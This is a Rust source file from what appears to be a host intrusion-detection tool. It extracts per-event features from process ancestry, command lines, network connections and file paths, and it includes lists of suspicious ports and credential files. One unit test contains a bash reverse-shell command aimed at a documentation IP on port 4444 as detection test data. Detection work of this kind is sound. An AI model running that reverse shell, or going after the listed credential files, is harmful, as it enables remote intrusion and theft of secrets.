//! Feature extraction: one fixed-length vector per event, from the event and
//! the host's recent history (see [`crate::state`]).
//!
//! Families, in vector order: event kind; identity; the program's and its
//! parent's families; process placement; process ancestry; command-line
//! indicators and shape (for connect and open events: those of the process's
//! exec); network; temporal; file integrity. [`names`] lists every feature.

use std::net::IpAddr;
use std::sync::LazyLock;

use outlier_proto::v1::{Event, event::Detail};

use crate::lexicon::{self, FAMILIES, Family, INDICATORS, MATCHER};
use crate::state::{HostState, Limits, Proc, Seen, TwoGen};

/// Numeric command-line shape features.
pub const CMD_NUMERIC: usize = 12;
const CMD_NUMERIC_NAMES: [&str; CMD_NUMERIC] = [
    "cmd_argc",
    "cmd_len_log2",
    "cmd_max_token_len",
    "cmd_entropy",
    "cmd_nonalnum_ratio",
    "cmd_digit_ratio",
    "cmd_upper_ratio",
    "cmd_quotes",
    "cmd_pipes",
    "cmd_separators",
    "cmd_substitutions",
    "cmd_redirects",
];

const HEAD: &[&str] = &[
    "kind_exec",
    "kind_connect",
    "kind_open",
    "uid_root",
    "uid_service",
    "uid_user",
    "gid_root",
    "uid_differs_from_parent",
    "root_under_non_root_parent",
];

const PROC_MISC: &[&str] = &[
    "exe_in_tmp",
    "exe_hidden",
    "exe_nonstandard_dir",
    "comm_exe_mismatch",
    "comm_len",
    "cwd_tmp",
    "cwd_root",
    "cwd_web_root",
];

const ANCESTRY: &[&str] = &[
    "ancestry_depth",
    "ancestor_webserver",
    "ancestor_database",
    "ancestor_cron",
    "ancestor_sshd",
    "ancestor_ci",
    "shells_in_chain",
    "interpreters_in_chain",
    "shell_under_service",
    "shell_under_cron",
];

const CMD_DERIVED: &[&str] = &[
    "cmd_download_exec",
    "cmd_ip_literal",
    "cmd_port_literal",
    "cmd_suspicious_port_literal",
    "cmd_sudo_shell",
];

const NETWORK: &[&str] = &[
    "net_port_log2",
    "net_port_common",
    "net_port_suspicious",
    "net_port_ephemeral",
    "net_port_privileged",
    "net_remote_private",
    "net_remote_loopback",
    "net_remote_public",
    "net_ipv6",
    "net_port_first_seen",
    "net_remote_first_seen",
    "net_port_seen_log2",
    "net_remote_seen_log2",
    "net_by_shell_or_interpreter",
    "net_by_non_network_program",
    "net_by_web_descendant",
];

const TEMPORAL: &[&str] = &[
    "execs_1s",
    "execs_10s",
    "execs_60s",
    "connects_60s",
    "writes_60s",
    "sensitive_reads_60s",
    "program_first_seen",
    "program_idle_log2s",
    "parent_age_log2s",
    "siblings_10s",
];

const FILE: &[&str] = &[
    "file_write",
    "file_create",
    "file_etc",
    "file_cron",
    "file_bin_dir",
    "file_authorized_keys",
    "file_ssh_dir",
    "file_shadow",
    "file_passwd",
    "file_sudoers",
    "file_systemd",
    "file_tmp",
    "file_hidden",
    "file_ld_preload",
    "file_proc",
    "file_var_log",
    "file_boot_modules",
    "file_profile",
    "file_credentials",
    "file_web_root",
    "file_dir_first_write",
];

/// Offsets of the families in the vector.
pub mod at {
    use super::*;
    pub const HEAD: usize = 0;
    pub const PROC_FAM: usize = HEAD + super::HEAD.len();
    pub const PARENT_FAM: usize = PROC_FAM + FAMILIES.len();
    pub const PROC_MISC: usize = PARENT_FAM + FAMILIES.len();
    pub const ANCESTRY: usize = PROC_MISC + super::PROC_MISC.len();
    pub const IND: usize = ANCESTRY + super::ANCESTRY.len();
    pub const CMD_NUM: usize = IND + INDICATORS.len();
    pub const CMD_DERIVED: usize = CMD_NUM + CMD_NUMERIC;
    pub const NET: usize = CMD_DERIVED + super::CMD_DERIVED.len();
    pub const TEMPORAL: usize = NET + super::NETWORK.len();
    pub const FILE: usize = TEMPORAL + super::TEMPORAL.len();
    pub const END: usize = FILE + super::FILE.len();
}

/// Length of the feature vector.
pub const N_FEATURES: usize = at::END;

static NAMES: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut v: Vec<String> = HEAD.iter().map(|s| s.to_string()).collect();
    v.extend(FAMILIES.iter().map(|f| format!("proc_{}", f.name())));
    v.extend(FAMILIES.iter().map(|f| format!("parent_{}", f.name())));
    v.extend(PROC_MISC.iter().map(|s| s.to_string()));
    v.extend(ANCESTRY.iter().map(|s| s.to_string()));
    v.extend(INDICATORS.iter().map(|i| i.name.to_string()));
    v.extend(CMD_NUMERIC_NAMES.iter().map(|s| s.to_string()));
    v.extend(CMD_DERIVED.iter().map(|s| s.to_string()));
    v.extend(NETWORK.iter().map(|s| s.to_string()));
    v.extend(TEMPORAL.iter().map(|s| s.to_string()));
    v.extend(FILE.iter().map(|s| s.to_string()));
    assert_eq!(v.len(), N_FEATURES);
    v
});

/// Every feature's name, in vector order.
pub fn names() -> &'static [String] {
    &NAMES
}

/// What an explanation sentence may refer to.
#[derive(Debug, Clone, Default)]
pub struct Context {
    pub comm: String,
    pub parent_comm: String,
    /// Nearest ancestor that is a web server, database, scheduler, sshd or CI runner.
    pub service_ancestor: String,
    pub remote: String,
    pub port: u32,
    pub path: String,
}

/// The features of one event.
#[derive(Debug, Clone)]
pub struct Features {
    pub values: [f32; N_FEATURES],
    pub context: Context,
}

const COMMON_PORTS: &[u32] = &[
    20, 21, 22, 25, 53, 80, 110, 123, 143, 389, 443, 465, 587, 636, 993, 995, 2049, 2379, 3000,
    3306, 5000, 5432, 6379, 6443, 8000, 8080, 8443, 9000, 9090, 9092, 9200, 10250, 11211, 27017,
];
const SUSPICIOUS_PORTS: &[u32] = &[
    1080, 1234, 1337, 2222, 3389, 4443, 4444, 4445, 5555, 5900, 6000, 6666, 6667, 6697, 7777, 8888,
    9001, 9999, 12345, 31337, 54321,
];

const SEC: u64 = 1_000_000_000;

fn fnv(parts: &[&[u8]]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for p in parts {
        for &b in *p {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
        h ^= 0xff;
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

fn log2p(x: f64) -> f32 {
    (x + 1.0).log2() as f32
}

fn flag(b: bool) -> f32 {
    if b { 1.0 } else { 0.0 }
}

/// Shape of a command line.
fn cmd_numeric(argv: &[String], line: &str) -> [f32; CMD_NUMERIC] {
    let mut counts = [0u32; 256];
    let (mut alnum, mut digit, mut upper) = (0u32, 0u32, 0u32);
    for &b in line.as_bytes() {
        counts[b as usize] += 1;
        alnum += u32::from(b.is_ascii_alphanumeric() || b == b' ');
        digit += u32::from(b.is_ascii_digit());
        upper += u32::from(b.is_ascii_uppercase());
    }
    let n = line.len().max(1) as f64;
    let entropy: f64 = counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum();
    let c = |b: u8| counts[b as usize] as f32;
    let max_token = argv
        .iter()
        .flat_map(|a| a.split_whitespace())
        .map(str::len)
        .max()
        .unwrap_or(0);
    [
        argv.len() as f32,
        log2p(line.len() as f64),
        max_token.min(4096) as f32,
        entropy as f32,
        1.0 - (f64::from(alnum) / n) as f32,
        (f64::from(digit) / n) as f32,
        (f64::from(upper) / n) as f32,
        c(b'\'') + c(b'"'),
        c(b'|'),
        c(b';') + line.matches("&&").count() as f32,
        line.matches("$(").count() as f32 + c(b'`'),
        c(b'>') + c(b'<'),
    ]
}

fn is_ip_literal(tok: &str) -> bool {
    let t = tok.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != ':');
    let t = t.split(['/', ':']).next().unwrap_or(t);
    t.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|ip| !ip.is_loopback() && !ip.is_unspecified())
}

/// Splits on the separators a shell or URL uses around addresses and ports.
fn tokens(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '/' | ':' | '=' | ',' | '"' | '\'' | '(' | ')' | ';' | '&' | '|' | '>' | '<'
            )
    })
    .filter(|t| !t.is_empty())
}

/// Extracts features, keeping per-host state.
pub struct Extractor {
    limits: Limits,
    hosts: TwoGen<u64, HostState>,
}

impl Default for Extractor {
    fn default() -> Self {
        Self::new(Limits::default())
    }
}

impl Extractor {
    pub fn new(limits: Limits) -> Self {
        Self {
            limits,
            hosts: TwoGen::new(limits.hosts),
        }
    }

    /// Hosts currently tracked.
    pub fn hosts(&self) -> usize {
        self.hosts.len()
    }

    /// Approximate heap bytes of the whole state store.
    pub fn approx_bytes(&self) -> usize {
        self.hosts.values().map(HostState::approx_bytes).sum()
    }

    /// The event's features; the host's state then takes the event in.
    pub fn observe(&mut self, ev: &Event) -> Features {
        let key = fnv(&[
            ev.org.as_bytes(),
            ev.workload.as_bytes(),
            ev.host.as_bytes(),
        ]);
        let limits = self.limits;
        let host = self.hosts.entry(key, || HostState::new(&limits));
        extract(host, &limits, ev)
    }
}

fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
    let mut v = [0f32; N_FEATURES];
    let now = ev.ts_ns;
    h.events += 1;
    let (is_exec, is_connect, is_open) = match &ev.detail {
        Some(Detail::Exec(_)) => (true, false, false),
        Some(Detail::Connect(_)) => (false, true, false),
        Some(Detail::Open(_)) => (false, false, true),
        None => (false, false, false),
    };
    v[0] = flag(is_exec);
    v[1] = flag(is_connect);
    v[2] = flag(is_open);

    // The process: for an exec the new image; otherwise what the table knows.
    let known = if is_exec {
        None
    } else {
        h.procs.get(&ev.pid).cloned()
    };
    // For an open or a connect the kernel names the calling thread, and
    // threads name themselves: the executable's name then (`program_name`).
    let comm = if ev.comm.is_empty() {
        known.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
    } else {
        ev.program_name().to_string()
    };
    let ppid = if ev.ppid != 0 {
        ev.ppid
    } else {
        known.as_ref().map_or(0, |p| p.ppid)
    };
    let parent = h.procs.get(&ppid).cloned();
    let parent_comm = if ev.parent_comm.is_empty() {
        parent.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
    } else {
        ev.parent_comm.clone()
    };
    let fam = lexicon::families(&comm);
    let pfam = lexicon::families(&parent_comm);

    // Identity.
    v[3] = flag(ev.uid == 0);
    v[4] = flag(ev.uid > 0 && ev.uid < 1000);
    v[5] = flag(ev.uid >= 1000 && ev.uid != 65534);
    v[6] = flag(ev.gid == 0 && ev.uid != 0);
    if let Some(p) = &parent {
        v[7] = flag(p.uid != ev.uid);
        v[8] = flag(ev.uid == 0 && p.uid != 0);
    }
    for (i, f) in FAMILIES.iter().enumerate() {
        v[at::PROC_FAM + i] = flag(lexicon::has(fam, *f));
        v[at::PARENT_FAM + i] = flag(lexicon::has(pfam, *f));
    }

    // Placement of the program.
    let exe = ev.exe.as_str();
    let exe_dir = exe.rsplit_once('/').map_or("", |(d, _)| d);
    let in_tmp =
        |p: &str| p.starts_with("/tmp") || p.starts_with("/dev/shm") || p.starts_with("/var/tmp");
    let cwd = match &ev.detail {
        Some(Detail::Exec(x)) => x.cwd.as_str(),
        _ => "",
    };
    let m = at::PROC_MISC;
    v[m] = flag(in_tmp(exe));
    v[m + 1] = flag(exe.contains("/."));
    v[m + 2] = flag(
        !exe.is_empty()
            && !matches!(
                exe_dir,
                "/bin" | "/sbin" | "/usr/bin" | "/usr/sbin" | "/usr/local/bin" | "/usr/local/sbin"
            )
            && !exe_dir.starts_with("/usr/lib")
            && !exe_dir.starts_with("/opt"),
    );
    let exe_base = exe.rsplit('/').next().unwrap_or(exe);
    v[m + 3] = flag(
        !exe.is_empty() && !comm.is_empty() && !exe_base.starts_with(comm.trim_start_matches('-')),
    );
    v[m + 4] = comm.len() as f32;
    v[m + 5] = flag(in_tmp(cwd));
    v[m + 6] = flag(cwd == "/");
    v[m + 7] = flag(cwd.starts_with("/var/www") || cwd.starts_with("/srv/www"));

    // Ancestry: the parent named by the event, then the table's chain.
    let mut ctx = Context {
        comm: comm.clone(),
        parent_comm: parent_comm.clone(),
        ..Context::default()
    };
    let (mut depth, mut shells, mut interps) = (0u32, 0u32, 0u32);
    let mut anc = 0u32;
    let note = |c: &str, fams: u32, ctx: &mut Context| {
        if ctx.service_ancestor.is_empty()
            && [
                Family::WebServer,
                Family::Database,
                Family::Cron,
                Family::Sshd,
                Family::CiRunner,
            ]
            .iter()
            .any(|f| lexicon::has(fams, *f))
        {
            ctx.service_ancestor = c.to_string();
        }
    };
    if !parent_comm.is_empty() {
        depth += 1;
        anc |= pfam;
        shells += u32::from(lexicon::has(pfam, Family::Shell));
        interps += u32::from(lexicon::has(pfam, Family::Interpreter));
        note(&parent_comm, pfam, &mut ctx);
    }
    // Walk up the table; where it ends, the last known process's parent
    // name still counts as one more ancestor.
    let mut cur = parent.clone();
    let mut hops = 0;
    while let Some(p) = cur.take() {
        if hops >= 16 {
            break;
        }
        hops += 1;
        let (c, fams) = match h.procs.get(&p.ppid).filter(|_| p.ppid != 0) {
            Some(gp) => {
                cur = Some(gp.clone());
                (gp.comm.clone(), gp.families)
            }
            None if !p.parent_comm.is_empty() => {
                (p.parent_comm.clone(), lexicon::families(&p.parent_comm))
            }
            None => break,
        };
        depth += 1;
        anc |= fams;
        shells += u32::from(lexicon::has(fams, Family::Shell));
        interps += u32::from(lexicon::has(fams, Family::Interpreter));
        note(&c, fams, &mut ctx);
    }
    let shellish = lexicon::has(fam, Family::Shell) || lexicon::has(fam, Family::Interpreter);
    let a = at::ANCESTRY;
    v[a] = depth as f32;
    v[a + 1] = flag(lexicon::has(anc, Family::WebServer));
    v[a + 2] = flag(lexicon::has(anc, Family::Database));
    v[a + 3] = flag(lexicon::has(anc, Family::Cron));
    v[a + 4] = flag(lexicon::has(anc, Family::Sshd));
    v[a + 5] = flag(lexicon::has(anc, Family::CiRunner));
    v[a + 6] = shells as f32;
    v[a + 7] = interps as f32;
    v[a + 8] = flag(
        (shellish || shells > 0)
            && (lexicon::has(anc, Family::WebServer) || lexicon::has(anc, Family::Database)),
    );
    v[a + 9] = flag((shellish || shells > 0) && lexicon::has(anc, Family::Cron));

    // Command line: the exec's own, or that of the process behind the event.
    let (indicators, numeric, line) = match &ev.detail {
        Some(Detail::Exec(x)) => {
            let line = x.argv.join(" ");
            (MATCHER.scan(&line), cmd_numeric(&x.argv, &line), line)
        }
        _ => known
            .as_ref()
            .map_or((0, [0.0; CMD_NUMERIC], String::new()), |p| {
                (p.indicators, p.cmd_numeric, String::new())
            }),
    };
    for i in 0..INDICATORS.len() {
        v[at::IND + i] = flag(indicators & (1 << i) != 0);
    }
    v[at::CMD_NUM..at::CMD_NUM + CMD_NUMERIC].copy_from_slice(&numeric);
    let ind = |name: &str| {
        INDICATORS
            .iter()
            .position(|i| i.name == name)
            .is_some_and(|i| indicators & (1 << i) != 0)
    };
    let d = at::CMD_DERIVED;
    v[d] = flag(
        ind("cmd_downloader")
            && (ind("cmd_pipe_to_shell") || ind("cmd_chmod_exec") || ind("cmd_spawn_shell")),
    );
    let (mut ip_lit, mut port_lit, mut sus_port) = (false, false, false);
    for t in tokens(&line) {
        if is_ip_literal(t) {
            ip_lit = true;
        } else if let Ok(p) = t.parse::<u32>()
            && (1024..=65535).contains(&p)
            && !COMMON_PORTS.contains(&p)
        {
            port_lit = true;
            sus_port |= SUSPICIOUS_PORTS.contains(&p);
        }
    }
    v[d + 1] = flag(ip_lit);
    v[d + 2] = flag(port_lit);
    v[d + 3] = flag(sus_port);
    v[d + 4] = flag(
        (ind("cmd_sudo") || lexicon::has(pfam, Family::Privilege))
            && (ind("cmd_spawn_shell") || ind("cmd_shell_escape")),
    );

    // Network.
    let n = at::NET;
    if let Some(Detail::Connect(c)) = &ev.detail {
        let port = c.remote_port;
        ctx.port = port;
        ctx.remote = c.remote_ip.clone();
        v[n] = log2p(f64::from(port));
        v[n + 1] = flag(COMMON_PORTS.contains(&port));
        v[n + 2] = flag(SUSPICIOUS_PORTS.contains(&port));
        v[n + 3] = flag(port >= 32768);
        v[n + 4] = flag(port < 1024);
        match c.remote_ip.parse::<IpAddr>() {
            Ok(IpAddr::V4(ip)) => {
                v[n + 5] = flag(ip.is_private() || ip.is_link_local());
                v[n + 6] = flag(ip.is_loopback());
                v[n + 7] = flag(!(ip.is_private() || ip.is_link_local() || ip.is_loopback()));
            }
            Ok(IpAddr::V6(ip)) => {
                let local = (ip.segments()[0] & 0xfe00) == 0xfc00;
                v[n + 5] = flag(local);
                v[n + 6] = flag(ip.is_loopback());
                v[n + 7] = flag(!local && !ip.is_loopback());
                v[n + 8] = 1.0;
            }
            Err(_) => {}
        }
        let port_seen = h.ports.get(&port).map_or(0, |s| s.count);
        let rkey = fnv(&[c.remote_ip.as_bytes()]);
        let remote_seen = h.remotes.get(&rkey).map_or(0, |s| s.count);
        v[n + 9] = flag(port_seen == 0);
        v[n + 10] = flag(remote_seen == 0);
        v[n + 11] = log2p(f64::from(port_seen));
        v[n + 12] = log2p(f64::from(remote_seen));
        v[n + 13] = flag(shellish);
        let networky = [
            Family::Downloader,
            Family::NetTool,
            Family::WebServer,
            Family::Database,
            Family::PackageManager,
            Family::Compiler,
            Family::CiRunner,
            Family::Init,
        ];
        v[n + 14] = flag(!comm.is_empty() && !networky.iter().any(|f| lexicon::has(fam, *f)));
        v[n + 15] =
            flag(lexicon::has(anc, Family::WebServer) && !lexicon::has(fam, Family::WebServer));
        bump(&mut h.ports, port, now);
        bump_u64(&mut h.remotes, rkey, now);
        h.connects.push(now, l.window);
        if let Some(p) = h.procs.get(&ev.pid).cloned() {
            h.procs.insert(
                ev.pid,
                Proc {
                    connected: true,
                    ..p
                },
            );
        }
    }

    // Temporal.
    let t = at::TEMPORAL;
    v[t] = h.execs.count(now, SEC) as f32;
    v[t + 1] = h.execs.count(now, 10 * SEC) as f32;
    v[t + 2] = h.execs.count(now, 60 * SEC) as f32;
    v[t + 3] = h.connects.count(now, 60 * SEC) as f32;
    v[t + 4] = h.writes.count(now, 60 * SEC) as f32;
    v[t + 5] = h.sensitive.count(now, 60 * SEC) as f32;
    let pkey = fnv(&[comm.as_bytes(), exe.as_bytes()]);
    let prog = h.programs.get(&pkey).copied();
    v[t + 6] = flag(prog.is_none());
    v[t + 7] = prog.map_or(40.0, |s| {
        log2p(now.saturating_sub(s.last_ns) as f64 / SEC as f64)
    });
    v[t + 8] = parent.as_ref().map_or(-1.0, |p| {
        log2p(now.saturating_sub(p.start_ns) as f64 / SEC as f64)
    });
    v[t + 9] = h
        .children
        .get(&ppid)
        .map_or(0.0, |w| w.count(now, 10 * SEC) as f32);

    // File integrity.
    let f = at::FILE;
    if let Some(Detail::Open(o)) = &ev.detail {
        let p = o.path.as_str();
        ctx.path = p.to_string();
        let write = o.flags & 0o3 != 0 || o.flags & 0o3100 != 0;
        v[f] = flag(write);
        v[f + 1] = flag(o.flags & 0o100 != 0);
        v[f + 2] = flag(p.starts_with("/etc/"));
        v[f + 3] = flag(p.contains("cron") || p.starts_with("/var/spool/at"));
        v[f + 4] = flag(
            [
                "/bin/",
                "/sbin/",
                "/usr/bin/",
                "/usr/sbin/",
                "/usr/local/bin/",
                "/usr/lib/",
                "/lib/",
            ]
            .iter()
            .any(|d| p.starts_with(d)),
        );
        v[f + 5] = flag(p.ends_with("authorized_keys") || p.ends_with("authorized_keys2"));
        v[f + 6] = flag(p.contains("/.ssh/"));
        v[f + 7] = flag(p.starts_with("/etc/shadow") || p.starts_with("/etc/gshadow"));
        v[f + 8] = flag(p == "/etc/passwd" || p == "/etc/group");
        v[f + 9] = flag(p.starts_with("/etc/sudoers"));
        v[f + 10] = flag(p.contains("/systemd/") || p.starts_with("/etc/init.d"));
        v[f + 11] = flag(in_tmp(p));
        v[f + 12] = flag(p.contains("/."));
        v[f + 13] = flag(p.starts_with("/etc/ld.so"));
        v[f + 14] = flag(p.starts_with("/proc/"));
        v[f + 15] = flag(p.starts_with("/var/log/"));
        v[f + 16] = flag(p.starts_with("/boot/") || p.starts_with("/lib/modules"));
        v[f + 17] = flag(
            p.ends_with(".bashrc")
                || p.ends_with(".profile")
                || p.ends_with(".bash_profile")
                || p.ends_with(".zshrc")
                || p.starts_with("/etc/profile"),
        );
        let cred = [
            ".aws/credentials",
            ".kube/config",
            ".pgpass",
            ".netrc",
            ".git-credentials",
            ".docker/config.json",
            "id_rsa",
            "id_ed25519",
            "id_ecdsa",
            ".gnupg/",
            "/etc/ssl/private",
        ]
        .iter()
        .any(|c| p.contains(c));
        v[f + 18] = flag(cred);
        v[f + 19] = flag(p.starts_with("/var/www") || p.starts_with("/srv/www"));
        let dir = p.rsplit_once('/').map_or(p, |(d, _)| d);
        let dkey = fnv(&[dir.as_bytes()]);
        if write {
            v[f + 20] = flag(h.write_dirs.get(&dkey).is_none());
            bump_u64(&mut h.write_dirs, dkey, now);
            h.writes.push(now, l.window);
        }
        if !write && (cred || v[f + 7] > 0.0 || v[f + 9] > 0.0) {
            h.sensitive.push(now, l.window);
        }
    }

    // Take the event in.
    bump_u64(&mut h.programs, pkey, now);
    if is_exec {
        h.execs.push(now, l.window);
        let window = l.window;
        h.children
            .entry(ppid, Default::default)
            .push(now, window.min(64));
        h.procs.insert(
            ev.pid,
            Proc {
                ppid,
                comm: comm.clone(),
                parent_comm: parent_comm.clone(),
                uid: ev.uid,
                start_ns: now,
                families: fam,
                indicators,
                cmd_numeric: numeric,
                connected: false,
            },
        );
    }
    Features {
        values: v,
        context: ctx,
    }
}

fn bump(map: &mut TwoGen<u32, Seen>, k: u32, now: u64) {
    let s = map.entry(k, Seen::default);
    s.count = s.count.saturating_add(1);
    s.last_ns = now;
}

fn bump_u64(map: &mut TwoGen<u64, Seen>, k: u64, now: u64) {
    let s = map.entry(k, Seen::default);
    s.count = s.count.saturating_add(1);
    s.last_ns = now;
}

#[cfg(test)]
mod tests {
    use super::*;
    use outlier_proto::v1::{Connect, Exec, Open};

    fn exec(
        pid: u32,
        ppid: u32,
        comm: &str,
        parent: &str,
        uid: u32,
        argv: &[&str],
        ts: u64,
    ) -> Event {
        Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            ts_ns: ts,
            pid,
            ppid,
            uid,
            comm: comm.into(),
            parent_comm: parent.into(),
            exe: format!("/usr/bin/{comm}"),
            detail: Some(Detail::Exec(Exec {
                argv: argv.iter().map(|s| s.to_string()).collect(),
                ..Exec::default()
            })),
            ..Event::default()
        }
    }

    fn get(f: &Features, name: &str) -> f32 {
        let i = names()
            .iter()
            .position(|n| n == name)
            .unwrap_or_else(|| panic!("{name}"));
        f.values[i]
    }

    #[test]
    fn there_are_over_a_hundred_uniquely_named_features() {
        const { assert!(N_FEATURES > 100) };
        let mut n = names().to_vec();
        n.sort();
        n.dedup();
        assert_eq!(n.len(), N_FEATURES);
    }

    #[test]
    fn shell_under_web_server_through_the_process_table() {
        let mut x = Extractor::default();
        let t = 1_000 * SEC;
        x.observe(&exec(
            100,
            1,
            "php-fpm8.2",
            "systemd",
            33,
            &["php-fpm: pool www"],
            t,
        ));
        let f = x.observe(&exec(
            200,
            100,
            "sh",
            "php-fpm8.2",
            33,
            &["sh", "-c", "id"],
            t + SEC,
        ));
        assert_eq!(get(&f, "shell_under_service"), 1.0);
        assert_eq!(get(&f, "ancestry_depth"), 2.0);
        assert_eq!(f.context.service_ancestor, "php-fpm8.2");
        // Grandchild: the web server is two levels up, known only from the table.
        let f = x.observe(&exec(
            300,
            200,
            "bash",
            "sh",
            33,
            &["bash", "-i"],
            t + 2 * SEC,
        ));
        assert_eq!(get(&f, "ancestor_webserver"), 1.0);
        assert_eq!(get(&f, "shells_in_chain"), 1.0);
        assert_eq!(get(&f, "ancestry_depth"), 3.0);
        // The same shell under sshd is not under a service.
        let f = x.observe(&exec(400, 10, "bash", "sshd", 1000, &["-bash"], t));
        assert_eq!(get(&f, "shell_under_service"), 0.0);
        assert_eq!(get(&f, "ancestor_sshd"), 1.0);
    }

    #[test]
    fn connect_inherits_its_process_command_line_and_tracks_first_seen() {
        let mut x = Extractor::default();
        let t = 1_000 * SEC;
        x.observe(&exec(
            500,
            1,
            "bash",
            "nginx",
            33,
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            t,
        ));
        let conn = |port: u32| Event {
            org: "o".into(),
            workload: "w".into(),
            host: "h".into(),
            ts_ns: t + SEC,
            pid: 500,
            comm: "bash".into(),
            detail: Some(Detail::Connect(Connect {
                remote_ip: "203.0.113.7".into(),
                remote_port: port,
                ..Connect::default()
            })),
            ..Event::default()
        };
        let f = x.observe(&conn(4444));
        assert_eq!(get(&f, "cmd_dev_tcp"), 1.0);
        assert_eq!(get(&f, "net_port_suspicious"), 1.0);
        assert_eq!(get(&f, "net_port_first_seen"), 1.0);
        assert_eq!(get(&f, "net_remote_public"), 1.0);
        assert_eq!(get(&f, "net_by_shell_or_interpreter"), 1.0);
        assert_eq!(
            get(&f, "cmd_suspicious_port_literal"),
            0.0,
            "derived from exec only"
        );
        let f = x.observe(&conn(4444));
        assert_eq!(get(&f, "net_port_first_seen"), 0.0);
        assert_eq!(get(&f, "net_port_seen_log2"), 1.0);
        assert_eq!(f.context.port, 4444);
    }

    #[test]
    fn file_writes_and_sensitive_reads() {
        let mut x = Extractor::default();
        let open = |path: &str, flags: u32, ts: u64| Event {
            host: "h".into(),
            ts_ns: ts,
            pid: 7,
            comm: "tee".into(),
            detail: Some(Detail::Open(Open {
                path: path.into(),
                flags,
                ..Open::default()
            })),
            ..Event::default()
        };
        let f = x.observe(&open("/root/.ssh/authorized_keys", 0o1101, SEC));
        assert_eq!(get(&f, "file_write"), 1.0);
        assert_eq!(get(&f, "file_authorized_keys"), 1.0);
        assert_eq!(get(&f, "file_dir_first_write"), 1.0);
        let f = x.observe(&open("/etc/shadow", 0, 2 * SEC));
        assert_eq!(get(&f, "file_write"), 0.0);
        assert_eq!(get(&f, "file_shadow"), 1.0);
        assert_eq!(get(&f, "writes_60s"), 1.0);
        let f = x.observe(&open("/etc/gshadow", 0, 3 * SEC));
        assert_eq!(get(&f, "sensitive_reads_60s"), 1.0);
    }

    #[test]
    fn state_stays_bounded_under_many_hosts_and_pids() {
        let limits = Limits {
            hosts: 64,
            procs: 32,
            seen: 32,
            window: 32,
        };
        let mut x = Extractor::new(limits);
        for i in 0..20_000u32 {
            let mut e = exec(
                i,
                i / 2,
                "bash",
                "sshd",
                0,
                &["bash", "-c", "echo hi"],
                u64::from(i) * SEC,
            );
            e.host = format!("h{}", i % 500);
            x.observe(&e);
        }
        assert!(x.hosts() <= 128);
        assert!(x.approx_bytes() < 128 * 64 * 1024, "{}", x.approx_bytes());
    }
}
